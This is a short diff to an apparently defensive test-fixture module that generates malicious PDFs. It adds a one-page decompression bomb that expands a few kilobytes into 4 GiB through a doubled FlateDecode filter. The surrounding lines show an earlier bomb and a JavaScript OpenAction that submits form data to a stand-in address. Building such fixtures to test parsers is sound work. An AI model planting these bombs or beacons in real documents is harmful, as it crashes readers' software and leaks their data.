@@ -227,6 +227,12 @@ def flate_bomb() -> bytes:
     return _document(tree=b"/Kids [7 0 R 3 0 R] /Count 2", more=[bomb, page])
 
 
+def one_page_bomb() -> bytes:
+    """The same with nothing beside it: a few kilobytes, one page, 4 GiB."""
+    bomb = stream(zlib.compress(zeros_deflated(4 << 30), 9), b"/Filter [/FlateDecode /FlateDecode]")
+    return _document(page=_PAGE.replace(b"4 0 R", b"6 0 R", 1), more=[bomb])
+
+
 def javascript() -> bytes:
     action = b"/OpenAction << /S /JavaScript /JS (app.alert\\('boo'\\); this.submitForm\\('http://192.0.2.1/'\\);) >>"
     return _document(catalog=action)
